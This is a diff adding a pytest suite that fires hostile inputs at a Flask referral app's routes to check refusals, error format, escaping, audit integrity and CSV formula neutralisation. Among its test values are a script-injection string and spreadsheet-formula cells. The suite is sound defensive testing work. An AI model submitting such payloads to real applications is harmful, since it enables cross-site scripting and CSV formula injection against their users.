+    path = target.path
+    if target.endpoint == "signin.login":
+        fields_ = {"email": w.people["intake"].email, "password": "wrong password"}
+        hostile_fields: tuple[str, ...] = ("email", "password")
+    elif target.endpoint == "signin.logout":
+        fields_ = {"next": "/"}
+        hostile_fields = ()
+    else:
+        fields_ = {"code": "12345x"}
+        hostile_fields = ("code",)
+    cases = []
+
+    def add(
+        label: str, category: str, pairs: list[tuple[str, str]], csrf: str | None, **kw: Any
+    ) -> None:
+        full = pairs + ([("csrf_token", csrf)] if csrf is not None else [])
+        cases.append(
+            Case(label, category, "POST", path, form(full), FORM, via="session", acting=False, **kw)
+        )
+
+    for name in hostile_fields:
+        for label, value in HOSTILE_VALUES.items():
+            pairs = [(k, value if k == name else v) for k, v in fields_.items()]
+            add(
+                f"{name}: {label}",
+                "injection" if label in INJECTION else "control and bidi",
+                pairs,
+                "{csrf}",
+            )
+        for label, value in {
+            "six zeros": "000000",
+            "seven digits": "1234567",
+            "spaced digits": "123 45x",
+            "negative": "-12345",
+            "full-width digits": "\uff11\uff12\uff13\uff14\uff15\uff16",
+            "arabic-indic digits": "\u0661\u0662\u0663\u0664\u0665\u0666",
+            "float": "1e5",
+        }.items():
+            pairs = [(k, value if k == name else v) for k, v in fields_.items()]
+            add(f"{name}: {label}", "field value", pairs, "{csrf}")
+    forged = {
+        "missing": None,
+        "empty": "",
+        "garbage": "garbage",
+        "another session's": "{foreign_csrf}",
+        "last character changed": "{csrf_flipped}",
+        "truncated": "{csrf_truncated}",
+        "with a suffix": "{csrf}x",
+        "injection": "<script>alert(1)</script>",
+        "1,000 characters": "x" * 1000,
+    }
+    payloads = {"the normal form": list(fields_.items())}
+    for label, value in itertools.islice(HOSTILE_VALUES.items(), 0, 20 if hostile_fields else 40):
+        payloads[f"field {label}"] = [(k, value) for k in fields_]
+    for csrf_label, token in forged.items():
+        for payload_label, pairs in payloads.items():
+            add(
+                f"CSRF {csrf_label}, {payload_label}",
+                "CSRF",
+                pairs,
+                token,
+                statuses=frozenset({403}),
+            )
+    # a good token in another shape may be read (then the wrong password or code refuses);
+    # signing out is refused only for the token, so it gets a forged one
+    token = "garbage" if target.endpoint == "signin.logout" else "{csrf}"
+    for label, (raw, content_type) in form_body_variants({**fields_, "csrf_token": token}).items():
+        cases.append(
+            Case(
+                f"body {label}",
+                "encoding",
+                "POST",
+                path,
+                raw,
+                content_type,
+                via="session",
+                acting=False,
+            )
+        )
+    return cases
+
+
+def corpus(app: Flask, target: Target, w: World) -> list[Case]:
+    if target.kind == "api":
+        return api_corpus(target, w, schema_of(app, target))
+    if target.kind == "oauth":
+        return oauth_corpus(target, w)
+    return form_corpus(target, w)
+
+
+# --- invariants ---------------------------------------------------------------------------------
+
+PROBLEM = "application/problem+json"
+PROBLEM_KEYS = {"type", "title", "status", "detail", "code", "request_id"}
+
+
+def problem_faults(response: Any, case: Case) -> list[str]:
+    """What is wrong with an API error response, against the documented problem shape."""
+    if response.mimetype != PROBLEM:
+        return [f"error is {response.mimetype or 'untyped'}, not {PROBLEM}"]
+    try:
+        body = json.loads(response.get_data())
+    except ValueError:
+        return ["problem body is not JSON"]
+    faults = []
+    if not isinstance(body, dict) or not set(body) >= PROBLEM_KEYS:
+        return [f"problem lacks {sorted(PROBLEM_KEYS - set(body or {}))}"]
+    if body["status"] != response.status_code:
+        faults.append(f"problem status {body['status']} != {response.status_code}")
+    if not (isinstance(body["code"], str) and body["type"] == f"/problems/{body['code']}"):
+        faults.append(f"problem type/code mismatch: {body['type']!r} / {body['code']!r}")
+    if not (
+        isinstance(body["title"], str)
+        and body["title"]
+        and isinstance(body["detail"], str)
+        and body["detail"]
+    ):
+        faults.append("problem without title or detail")
+    if body["request_id"] != response.headers.get("X-Request-Id"):
+        faults.append("problem request_id differs from X-Request-Id")
+    errors = body.get("errors")
+    if errors is not None and not (
+        isinstance(errors, dict)
+        and all(
+            isinstance(k, str) and isinstance(v, list) and all(isinstance(m, str) for m in v)
+            for k, v in errors.items()
+        )
+    ):
+        faults.append(f"errors is not {{field: [message]}}: {errors!r}"[:200])
+    if body["code"] == "validation_error" and not errors:
+        faults.append("validation error names no field")
+    if case.names and errors and not any(names_field(key, case.names) for key in errors):
+        faults.append(f"errors {sorted(errors)[:5]} do not name {case.names!r}")
+    if response.status_code == 401 and "WWW-Authenticate" not in response.headers:
+        faults.append("401 without WWW-Authenticate")
+    return faults
+
+
+def names_field(key: str, expected: str) -> bool:
+    """Does an `errors` key name the field (dotted path, `$.`/`[i]` spellings allowed)?"""
+    key = re.sub(r"\[(\d+)\]", r".\1", key.removeprefix("$.").removeprefix("json."))
+    return key == expected or key.startswith(expected + ".") or expected.startswith(key + ".")
+
+
+def response_faults(response: Any, case: Case, kind: str) -> list[str]:
+    status = response.status_code
+    text = response.get_data(as_text=True)
+    faults = []
+    if status >= 500:
+        return [f"{status}"]
+    if "Traceback" in text or 'File "/' in text:
+        faults.append("traceback in the body")
+    if not response.headers.get("X-Request-Id"):
+        faults.append("no X-Request-Id")
+    if case.outcome == REJECT and status < 400:
+        faults.append(f"accepted ({status})")
+    elif case.outcome == ACCEPT and status >= 300:
+        faults.append(f"valid request refused ({status}: {text[:200]})")
+    elif case.statuses and status not in case.statuses and case.outcome != ACCEPT:
+        faults.append(f"status {status}, expected {sorted(case.statuses)}")
+    if status >= 400:
+        if kind == "api" or response.mimetype == PROBLEM:
+            faults += problem_faults(response, case)
+        elif kind == "oauth":
+            try:
+                body = json.loads(text)
+            except ValueError:
+                body = None
+            if response.mimetype != "application/json" or not (
+                isinstance(body, dict) and isinstance(body.get("error"), str)
+            ):
+                faults.append(f"OAuth error is not an RFC 6749 error object ({response.mimetype})")
+        elif response.mimetype != "text/html":
+            faults.append(f"staff page error is {response.mimetype}, not HTML or a problem")
+    elif 200 <= status < 300 and kind == "api" and case.sent_at and isinstance(case.sent, str):
+        shown = json.loads(text)
+        for part in case.sent_at:
+            shown = shown.get(part) if isinstance(shown, dict) else None
+        if isinstance(shown, str) and shown not in (case.sent, case.sent.strip()):
+            faults.append(f"accepted but echoed as {shown!r}, not verbatim")
+    return faults
+
+
+# --- the database fingerprint -------------------------------------------------------------------
+
+AUDIT_TABLES = {"audit_event", "audit_head", "audit_checkpoint"}
+COUNTERS = {"rate_limit_counter"}
+VOLATILE_COLUMNS = {("staff_session", "last_seen_at")}
+_reflected: dict[tuple[str, str], list[Table]] = {}
+
+
+def connection_of(bind: str | None) -> Connection:
+    """The test's connection for a bind (the `session` fixture put it where the engine was)."""
+    return cast(Connection, db.engines[bind])
+
+
+def _tables(bind: str | None) -> list[Table]:
+    connection = connection_of(bind)
+    key = (connection.dialect.name, bind or "")
+    if key not in _reflected:
+        if bind == "keys":
+            from referral_hub.core.keystore import KeysBase
+
+            tables = list(KeysBase.metadata.sorted_tables)
+        else:
+            from referral_hub.core.keystore import KeysBase
+
+            metadata = MetaData()
+            metadata.reflect(connection)
+            tables = [t for t in metadata.sorted_tables if t.name not in KeysBase.metadata.tables]
+        _reflected[key] = tables
+    return _reflected[key]
+
+
+def fingerprint() -> dict[str, tuple[int, str]]:
+    """Row count and content hash of every table but the audit ones and the counters."""
+    result = {}
+    for bind in (None, "keys"):
+        connection = connection_of(bind)
+        for table in _tables(bind):
+            if table.name in AUDIT_TABLES | COUNTERS:
+                continue
+            columns = [c for c in table.columns if (table.name, c.name) not in VOLATILE_COLUMNS]
+            order = list(table.primary_key.columns) or columns
+            rows = connection.execute(select(*columns).order_by(*order)).all()
+            digest = hashlib.sha256(repr([tuple(row) for row in rows]).encode()).hexdigest()
+            result[f"{bind or 'main'}.{table.name}"] = (len(rows), digest[:16])
+    return result
+
+
+def audit_head() -> int:
+    connection = connection_of(None)
+    return int(
+        connection.execute(
+            select(_table("audit_event").c.seq)
+            .order_by(_table("audit_event").c.seq.desc())
+            .limit(1)
+        ).scalar()
+        or 0
+    )
+
+
+def _table(name: str) -> Table:
+    return next(t for t in _tables(None) if t.name == name)
+
+
+def non_denial_events(after: int) -> list[str]:
+    """Audit events since `after` that are not the record of a refusal."""
+    events = _table("audit_event")
+    rows = (
+        connection_of(None)
+        .execute(
+            select(events.c.action, events.c.outcome)
+            .where(events.c.seq > after)
+            .order_by(events.c.seq)
+        )
+        .all()
+    )
+    return [
+        f"{action} ({outcome})" for action, outcome in rows if outcome not in ("denied", "failure")
+    ]
+
+
+def diff(before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]) -> str:
+    return ", ".join(
+        f"{name} rows {before.get(name, (0, ''))[0]}->{after.get(name, (0, ''))[0]}"
+        for name in sorted(set(before) | set(after))
+        if before.get(name) != after.get(name)
+    )
+
+
+# --- the runner ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Runner:
+    """Sends cases, checks each answer, and checks the fingerprint every CHUNK requests."""
+
+    app: Flask
+    clients: dict[str, FlaskClient]
+    actor: Actor | None
+    fill: dict[str, str]
+    kind: str
+    acting: list[Actor | None] = field(default_factory=lambda: [None])
+    failures: list[str] = field(default_factory=list)
+    sent: int = 0
+
+    def _savepoints(self) -> list[Any]:
+        return [connection_of(bind).begin_nested() for bind in (None, "keys")]
+
+    def send(self, case: Case) -> Any:
+        self.acting[0] = self.actor if case.acting else None
+        headers = {name: self._fill(value) for name, value in case.headers}
+        if case.content_type is not None and case.body is not None:
+            headers["Content-Type"] = case.content_type
+        body = case.body
+        if body is not None and b"{csrf" in body:
+            body = self._fill(body.decode()).encode()
+        self.sent += 1
+        return self.clients[case.via].open(
+            self._fill(case.path), method=case.method, data=body, headers=headers
+        )
+
+    def _fill(self, text: str) -> str:
+        for name, value in self.fill.items():
+            text = text.replace("{" + name + "}", value)
+        return text
+
+    def one(self, case: Case) -> tuple[Any, bool]:
+        """Send in a savepoint: kept when refused (for the fingerprint), undone when taken."""
+        savepoints = self._savepoints()
+        response = self.send(case)
+        taken = 200 <= response.status_code < 400 and case.outcome != NOOP
+        for savepoint in reversed(savepoints):
+            savepoint.rollback() if taken else savepoint.commit()
+        for fault in response_faults(response, case, self.kind):
+            self.failures.append(f"{case.describe()}: {fault}")
+        return response, taken
+
+    def run(self, cases: Sequence[Case]) -> None:
+        baseline, head = fingerprint(), audit_head()
+        for start in range(0, len(cases), CHUNK):
+            chunk = cases[start : start + CHUNK]
+            chunk_savepoints = self._savepoints()
+            for case in chunk:
+                self.one(case)
+            changed = fingerprint() != baseline or bool(non_denial_events(head))
+            for savepoint in reversed(chunk_savepoints):
+                savepoint.rollback()
+            if changed:
+                self._find_writers(chunk, baseline, head)
+
+    def _find_writers(self, chunk: Sequence[Case], baseline: dict[str, Any], head: int) -> None:
+        """A refused request in this chunk changed something: re-run them one by one."""
+        found = False
+        for case in chunk:
+            savepoints = self._savepoints()
+            response, taken = self.one(case)
+            after, events = fingerprint(), non_denial_events(head)
+            for savepoint in reversed(savepoints):
+                savepoint.rollback()
+            if not taken and (after != baseline or events):
+                found = True
+                self.failures.append(
+                    f"{case.describe()}: refused with {response.status_code} but changed "
+                    f"{diff(baseline, after) or 'nothing counted'}; audit events {events}"
+                )
+        if not found:
+            labels = "; ".join(case.describe() for case in chunk)
+            self.failures.append(
+                f"a chunk changed the database but no single request did: {labels}"
+            )
+
+    def check(self, total: int) -> None:
+        assert total >= MIN_INPUTS_PER_ROUTE, f"only {total} inputs"
+        if self.failures:
+            shown = "\n  ".join(self.failures[:100])
+            more = (
+                f"\n  ... and {len(self.failures) - 100} more" if len(self.failures) > 100 else ""
+            )
+            pytest.fail(
+                f"{len(self.failures)} of {total} hostile inputs misbehaved:\n  {shown}{more}",
+                pytrace=False,
+            )
+
+
+@pytest.fixture
+def acting(app: Flask) -> Iterator[list[Actor | None]]:
+    """Who acts for the next request: an actor, or None for the real credential check."""
+    real = app.extensions["actor_resolver"]
+    holder: list[Actor | None] = [None]
+    app.extensions["actor_resolver"] = lambda: holder[0] or real()
+    yield holder
+    app.extensions["actor_resolver"] = real
+
+
+@pytest.fixture
+def unlimited(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The corpus is not about rate limits: without this most inputs would only meet a 429."""
+    monkeypatch.setitem(app.config, "API_REQUESTS_PER_WINDOW", 1_000_000)
+    monkeypatch.setitem(app.config, "AUTH_FAILURES_PER_WINDOW", 1_000_000)
+
+
+def flipped(token: str) -> str:
+    """One character of the signature changed (not the last: it may hold only padding bits)."""
+    index = token.rindex(".") + 1
+    return token[:index] + ("A" if token[index] != "A" else "B") + token[index + 1 :]
+
+
+def prepare(
+    app: Flask, client: FlaskClient, target: Target, w: World
+) -> tuple[dict[str, FlaskClient], dict[str, str]]:
+    """The session client the target needs (signed in, or half-way), and its CSRF tokens."""
+    stranger = app.test_client()
+    foreign_csrf = factories.csrf_from(stranger.get("/login").get_data(as_text=True))
+    session_client = app.test_client()
+    person = w.people.get(target.person or "intake")
+    if target.endpoint in ("signin.login",) or target.kind == "oauth":
+        csrf = factories.csrf_from(session_client.get("/login").get_data(as_text=True))
+    elif target.endpoint == "signin.code":
+        page = session_client.get("/login").get_data(as_text=True)
+        assert person is not None
+        response = session_client.post(
+            "/login",
+            data={
+                "email": person.email,
+                "password": factories.TEST_PASSWORD,
+                "csrf_token": factories.csrf_from(page),
+            },
+        )
+        assert response.headers["Location"].endswith("/login/code")
+        csrf = factories.csrf_from(session_client.get("/login/code").get_data(as_text=True))
+    elif target.endpoint == "signin.enrol":
+        page = session_client.get("/login").get_data(as_text=True)
+        assert person is not None
+        response = session_client.post(
+            "/login",
+            data={
+                "email": person.email,
+                "password": factories.TEST_PASSWORD,
+                "csrf_token": factories.csrf_from(page),
+            },
+        )
+        assert response.headers["Location"].endswith("/login/enrol")
+        csrf = factories.csrf_from(session_client.get("/login/enrol").get_data(as_text=True))
+    else:
+        assert person is not None
+        csrf = sign_in(session_client, person)
+        if target.endpoint == "signin.second_factor":
+            session_client.get("/account/second-factor")  # the secret to enrol is made now
+    fill = {
+        "csrf": csrf,
+        "foreign_csrf": foreign_csrf,
+        "csrf_flipped": flipped(csrf),
+        "csrf_truncated": csrf[: len(csrf) // 2],
+    }
+    return {"plain": client, "session": session_client}, fill
+
+
+# --- the tests ------------------------------------------------------------------------------
+
+
+def mutating_rules(app: Flask) -> dict[str, set[str]]:
+    found: dict[str, set[str]] = {}
+    for rule in app.url_map.iter_rules():
+        methods = set(rule.methods or ()) & MUTATING
+        if methods:
+            found.setdefault(rule.endpoint, set()).update(methods)
+    return found
+
+
+def test_every_mutating_route_is_classified(app: Flask, client: FlaskClient, session: Any) -> None:
+    """A new POST/PUT/PATCH/DELETE route (or OpenAPI operation) must get a target here."""
+    routes = mutating_rules(app)
+    unclassified = sorted(
+        f"{sorted(methods)} {endpoint}"
+        for endpoint, methods in routes.items()
+        if endpoint not in TARGETS or {TARGETS[endpoint].method} != methods
+    )
+    assert not unclassified, f"mutating routes without a hostile-input target: {unclassified}"
+    stale = sorted(set(TARGETS) - set(routes))
+    assert not stale, f"targets for routes that no longer exist: {stale}"
+    spec = json_of(client.get("/openapi.json"))  # the published document
+    rules = {
+        re.sub(r"<(?:[^<>]*:)?(\w+)>", r"{\1}", rule.rule): rule.endpoint
+        for rule in app.url_map.iter_rules()
+        if set(rule.methods or ()) & MUTATING
+    }
+    for path, operations in spec["paths"].items():
+        for method in operations:
+            if method.upper() in MUTATING:
+                endpoint = rules.get(path)
+                assert endpoint in TARGETS, f"OpenAPI {method.upper()} {path} has no target"
+
+
+def test_the_corpus_has_200_inputs_per_route_and_5000_in_all(app: Flask) -> None:
+    world = fake_world()
+    sizes = {}
+    for target in TARGETS.values():
+        size = len(corpus(app, target, world))
+        if target.kind == "api" and target.method == "POST":
+            size += len(replay_corpus(target, world, schema_of(app, target)))
+        sizes[target.endpoint] = size
+    small = {name: size for name, size in sizes.items() if size < MIN_INPUTS_PER_ROUTE}
+    assert not small, f"routes with fewer than {MIN_INPUTS_PER_ROUTE} inputs: {small}"
+    assert sum(sizes.values()) >= MIN_INPUTS_IN_ALL, sizes
+
+
+@pytest.mark.parametrize("endpoint", sorted(TARGETS))
+def test_hostile_inputs(
+    app: Flask,
+    client: FlaskClient,
+    session: Any,
+    acting: list[Actor | None],
+    unlimited: None,
+    endpoint: str,
+) -> None:
+    target = TARGETS[endpoint]
+    world = build_world(client)
+    clients, fill = prepare(app, client, target, world)
+    person = world.people.get(target.person) if target.person else None
+    runner = Runner(
+        app,
+        clients,
+        person.actor() if person and target.kind == "api" else None,
+        fill,
+        target.kind,
+        acting,
+    )
+    cases = corpus(app, target, world)
+    runner.run(cases)
+    total = len(cases)
+    if target.kind == "api" and target.method == "POST":
+        # the first request with the key is the one the others would replay
+        acting[0] = runner.actor
+        first = client.open(
+            target.url(world),
+            method="POST",
+            data=dumps(target.body(world)) if target.body else None,
+            headers={"Idempotency-Key": REPLAY_KEY, "Content-Type": "application/json"},
+        )
+        replays = replay_corpus(target, world, schema_of(app, target))
+        total += len(replays)
+        if first.status_code in (200, 201):
+            runner.run(replays)
+        else:
+            runner.failures.append(f"the first request with the key: {first.status_code}")
+    runner.check(total)
+
+
+# --- what is accepted is stored as sent, and shown escaped -----------------------------------
+
+STORED_TEXT = {**INJECTION, **{k: CONTROL[k] for k in ("bidi override", "ANSI escape", "CRLF")}}
+
+
+def json_of(response: Any) -> Any:
+    return json.loads(response.get_data())
+
+
+def read(client: FlaskClient, path: str) -> Any:
+    response = client.get(path)
+    assert response.status_code == 200, (path, response.get_data(as_text=True)[:300])
+    return json_of(response)
+
+
+def test_accepted_injection_strings_are_stored_verbatim_and_rendered_escaped(
+    app: Flask, client: FlaskClient, session: Any, acting: list[Actor | None], unlimited: None
+) -> None:
+    """Free text takes any string and gives it back unchanged (names lose only surrounding
+    whitespace); the staff pages that show it (the network on the front page, the e-mail
+    echoed by the sign-in form) escape it, and no template syntax in it is evaluated."""
+    w = build_world(client)
+    people = w.people
+    mismatches: list[str] = []
+
+    def same(where: str, sent: str, stored: Any, *, trimmed: bool = False) -> None:
+        if stored != sent and not (trimmed and stored == sent.strip()):
+            mismatches.append(f"{where}: sent {sent!r}, stored {stored!r}")
+
+    agencies = {}
+    for index, (label, value) in enumerate(STORED_TEXT.items()):
+        acting[0] = people["hub_admin"].actor()
+        name = f"{value} {index}"  # agency names are unique; the hostile part stays in front
+        created = client.post(
+            "/api/v1/agencies",
+            json={"name": name, "kind": "shelter", "city": value[:120], "region": value[:120]},
+        )
+        assert created.status_code == 201, (label, created.get_data(as_text=True))
+        agencies[label] = json_of(created)["id"]
+        shown = read(client, f"/api/v1/agencies/{json_of(created)['id']}")
+        same(f"{label}: agency name", name, shown["name"], trimmed=True)
+        same(f"{label}: agency city", value[:120], shown["city"])
+        same(f"{label}: agency region", value[:120], shown["region"])
+
+        acting[0] = people["provider"].actor()
+        text_fields = {
+            "description": value,
+            "hours": value[:300],
+            "service_area": value[:300],
+            "eligibility": {"notes": value},
+            "location": {"name": value, "city": value, "address": {"street": value}},
+        }
+        service = client.post(
+            "/api/v1/services",
+            json={"name": f"{value} {index}", "category": "emergency_shelter", **text_fields},
+        )
+        assert service.status_code == 201, (label, service.get_data(as_text=True))
+        shown = read(client, f"/api/v1/services/{json_of(service)['id']}")
+        same(f"{label}: service description", value, shown["description"])
+        same(f"{label}: service hours", value[:300], shown["hours"])
+        same(f"{label}: service area", value[:300], shown["service_area"])
+        same(f"{label}: eligibility notes", value, shown["eligibility"]["notes"])
+        same(f"{label}: location name", value, shown["location"]["name"])
+        same(f"{label}: location city", value, shown["location"]["city"])
+        same(f"{label}: street", value, shown["location"]["address"]["street"])
+        put = client.put(
+            f"/api/v1/services/{json_of(service)['id']}/capacity",
+            json={"total": 2, "available": 1, "note": value},
+        )
+        assert put.status_code == 200, put.get_data(as_text=True)
+        history = read(client, f"/api/v1/services/{json_of(service)['id']}/capacity/history")
+        same(f"{label}: capacity note", value, history["items"][0]["note"])
+
+        acting[0] = people["intake"].actor()
+        pii = {k: value for k in ("name", "contact", "narrative", "immigration", "health")}
+        record = client.post("/api/v1/clients", json={"pii": pii})
+        assert record.status_code == 201, record.get_data(as_text=True)
+        shown = read(client, f"/api/v1/clients/{json_of(record)['id']}")
+        for key, sent in pii.items():
+            same(f"{label}: pii {key}", sent, shown["pii"].get(key))
+        consent = client.post(
+            f"/api/v1/clients/{json_of(record)['id']}/consents",
+            json={**consent_body(w), "signer_authority": value, "form_version": value[:40]},
+        )
+        assert consent.status_code == 201, consent.get_data(as_text=True)
+        listed = read(client, f"/api/v1/clients/{json_of(record)['id']}/consents")
+        same(f"{label}: signer authority", value, listed[0]["signer_authority"])
+        same(f"{label}: form version", value[:40], listed[0]["form_version"])
+
+        acting[0] = people["receiver"].actor()
+        message = client.post(f"/api/v1/referrals/{w.own_referral}/messages", json={"body": value})
+        assert message.status_code == 201, message.get_data(as_text=True)
+        bodies = [m["body"] for m in read(client, f"/api/v1/referrals/{w.own_referral}/messages")]
+        same(f"{label}: message", value, bodies[-1])
+
+        acting[0] = people["admin"].actor()
+        system = client.post(
+            f"/api/v1/agencies/{w.own}/api-clients",
+            json={"name": f"{value} {index}"[:120], "scopes": ["directory:read"]},
+        )
+        assert system.status_code == 201, system.get_data(as_text=True)
+        same(
+            f"{label}: api client name",
+            f"{value} {index}"[:120],
+            json_of(system)["name"],
+            trimmed=True,
+        )
+        person = client.post(
+            f"/api/v1/agencies/{w.own}/users",
+            json={"email": f"p{index}@agency.example", "display_name": value, "roles": ["intake"]},
+        )
+        assert person.status_code == 201, person.get_data(as_text=True)
+        same(f"{label}: display name", value, json_of(person)["display_name"], trimmed=True)
+    assert not mismatches, "\n".join(mismatches)
+
+    acting[0] = None
+    page = client.get("/").get_data(as_text=True)
+    http = app.test_client()
+    form_page = http.get("/login").get_data(as_text=True)
+    unescaped = []
+    for label, value in INJECTION.items():
+        for where, text, shown in (
+            ("front page", page, value.strip()),
+            ("sign-in echo", None, value),
+        ):
+            if text is None:
+                text = http.post(
+                    "/login",
+                    data={
+                        "email": shown,
+                        "password": "wrong",
+                        "csrf_token": factories.csrf_from(form_page),
+                    },
+                ).get_data(as_text=True)
+            if str(escape(shown)) not in text:
+                unescaped.append(f"{where}: {label} not shown escaped")
+            if any(c in shown for c in "<>\"'&") and shown in text:
+                unescaped.append(f"{where}: {label} shown raw")
+    assert not unescaped, "\n".join(unescaped)
+
+
+# --- CSV exports ----------------------------------------------------------------------------
+
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_cells(text: str) -> list[str]:
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+        if cell.startswith(FORMULA_LEADS)
+    ]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised() -> None:
+    from referral_hub.core.csvout import cell, csv_text
+
+    for lead in FORMULA_LEADS:
+        assert cell(f"{lead}1+1").startswith("'"), lead
+    hostile = [*INJECTION.values(), *(f"{lead}cmd" for lead in FORMULA_LEADS)]
+    text = csv_text(["a", "b"], [{"a": value, "b": [value, "x"]} for value in hostile])
+    assert not formula_cells(text)
+    # and nothing else is touched
+    assert cell("Harbor Light") == "Harbor Light" and cell(None) == "" and cell(3) == "3"
+
+
+def test_csv_exports_neutralise_hostile_names_and_ids(
+    app: Flask, client: FlaskClient, session: Any, acting: list[Actor | None], unlimited: None
+) -> None:
+    """The handoff report names receiving agencies; the disclosure list names who read."""
+    from referral_hub.clients.service import create_client
+    from referral_hub.referrals import service as referrals
+
+    w = build_world(client)
+    intake = w.people["intake"].actor()
+    formulas = [v for v in INJECTION.values() if v.startswith(FORMULA_LEADS)]
+    assert len(formulas) >= 6
+    with transaction():
+        for index, value in enumerate(formulas):
+            agency = factories.agency(name=f"{value} {index}")
+            service = factories.directory_service(agency, "case_management")
+            person = create_client(intake, profile={"language": "en"})
+            referrals.send_referral(
+                intake,
+                client_id=person.id,
+                service_id=service.id,
+                urgency=Urgency.ROUTINE,
+                data_categories=["profile"],
+            )
+    db.session.remove()
+    acting[0] = Actor(
+        ActorKind.USER, w.people["admin"].user_id, uuid.UUID(w.own), frozenset({"coordinator"})
+    )
+    report = client.get("/api/v1/reports/handoffs?format=csv")
+    assert report.status_code == 200, report.get_data(as_text=True)
+    text = report.get_data(as_text=True)
+    for index, value in enumerate(formulas):
+        assert f"'{value.strip()} {index}".replace('"', '""') in text, value
+    assert not formula_cells(text), formula_cells(text)
+
+    for value in formulas:  # readers whose ids look like formulas (ids are the hub's own)
+        acting[0] = Actor(ActorKind.USER, value[:64], uuid.UUID(w.own), frozenset({"intake"}))
+        assert client.get(f"/api/v1/clients/{w.own_client}").status_code == 200
+    acting[0] = w.people["intake"].actor()
+    disclosures = client.get(f"/api/v1/clients/{w.own_client}/disclosures?format=csv")
+    assert disclosures.status_code == 200, disclosures.get_data(as_text=True)
+    text = disclosures.get_data(as_text=True)
+    assert any(f"'{value[:64]}" in text for value in formulas), text[:500]
+    assert not formula_cells(text), formula_cells(text)
+
+
+# --- the runner sees what it is meant to see ---------------------------------------------------
+
+
+def test_the_runner_catches_a_refusal_that_wrote(
+    app: Flask,
+    client: FlaskClient,
+    session: Any,
+    acting: list[Actor | None],
+    unlimited: None,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A refused request that leaves a row behind (here in the key store, which commits on
+    its own) is named with the table it changed; a 500 and a non-problem error are named."""
+    from referral_hub.agencies import service as agencies
+    from referral_hub.core import keystore
+    from referral_hub.core.errors import ValidationFailed
+
+    def leaky(*args: Any, **kwargs: Any) -> Any:
+        keystore.put(uuid.uuid4(), b"leaked", "k1")
+        raise ValidationFailed(errors={"name": ["Refused after writing."]})
+
+    w = build_world(client)
+    runner = Runner(app, {"plain": client}, w.people["hub_admin"].actor(), {}, "api", acting)
+    valid = dumps({"name": "Harbor Light", "kind": "shelter"})
+    good = Case("a refusal", "self-check", "POST", "/api/v1/agencies", valid, names="name")
+    monkeypatch.setattr(agencies, "create_agency", leaky)
+    runner.run([good] * 3)
+    assert any("keys.client_key rows" in failure for failure in runner.failures), runner.failures
+    assert len(runner.failures) == 3, runner.failures
+
+    runner.failures.clear()
+    monkeypatch.setattr(agencies, "create_agency", lambda *a, **k: 1 / 0)
+    runner.run([good])
+    assert runner.failures == ["[self-check] a refusal: 500"], runner.failures
